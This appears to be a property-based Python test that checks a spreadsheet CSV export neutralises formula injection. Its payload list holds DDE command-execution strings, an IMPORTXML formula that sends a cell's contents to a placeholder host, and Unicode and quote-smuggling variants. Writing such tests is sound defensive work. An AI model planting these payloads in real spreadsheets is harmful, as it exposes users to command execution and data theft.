"""Named test 9, exports: whatever somebody has typed, no cell of a file is a formula."""

import csv
import io
import unicodedata

from hypothesis import HealthCheck, given, seed, settings
from hypothesis import strategies as st

from jobbtorg.core.spreadsheet import as_csv
from tests.assurance.conftest import Figure
from tests.assurance.counts import assured_count, assured_seed

TIMES = assured_count("formulas", short=300, full=20_000)
PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|'/c calc'!A0", "|cmd", "%0A=1", "=HYPERLINK(\"http://x\")",
    '=IMPORTXML(CONCAT("http://x/?", A1), "//a")', "＝1+1", "＋1", "－1", "＠SUM(1)", "﹢1", "﹣1", "﹫A",
    "⁼1", "₊1", "=DDE(\"cmd\";\"/c calc\";\"x\")", "'=1", '"=1', '""=1', '";=1', "\";\"=1", ";=1", "a;=1",
    "a\n=1", "a\r=1", "a\r\n=1", "a\u2028=1", "a\x0b=1", "a\x85=1",
)  # fmt: skip
BEFORE = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\x00",
    "\ufeff",
    "\u200b",
    "\u00a0",
    "\u202e",
    "\x0b",
    '"',
)
# What a spreadsheet runs, in any width, after anything that it does not show.
LIVE = frozenset("=+-@|%")
UNSEEN = frozenset({"Cc", "Cf", "Zs", "Zl", "Zp"})


def is_live(text: str) -> bool:
    """Judged by itself, without the code under test."""
    plain = unicodedata.normalize("NFKC", text)
    rest = [one for one in plain if unicodedata.category(one) not in UNSEEN and one != '"']
    return bool(rest) and unicodedata.normalize("NFKD", rest[0])[:1] in LIVE


def live_cells(values: list[str]) -> list[str]:
    """The live cells of a file with these values, read as Excel reads it and line by line."""
    text = as_csv(values, [values]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert [len(row) for row in rows] == [len(values)] * 2, "a value has become cells or rows"
    found = [cell for row in rows for cell in row if is_live(cell)]
    return found + [line for line in text.splitlines() if not line.startswith('"')]


def test_no_cell_is_a_formula(figure: Figure) -> None:
    tried, live = 0, []
    for payload in PAYLOADS:
        for before in BEFORE:
            tried += 1
            live += live_cells([before + payload, "Åsa"])
    drawn = st.lists(
        st.tuples(st.sampled_from(BEFORE), st.sampled_from(PAYLOADS) | st.text(max_size=20)).map(
            "".join
        ),
        min_size=1,
        max_size=4,
    )

    @seed(assured_seed())
    @settings(
        max_examples=TIMES,
        database=None,
        deadline=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(drawn)
    def more(values: list[str]) -> None:
        live.extend(live_cells(values))

    more()
    figure(9, "rows of hostile cells exported", tried + TIMES, holds=True)
    figure(9, "live formulas", len(live), holds=not live)
    assert not live, live[:20]
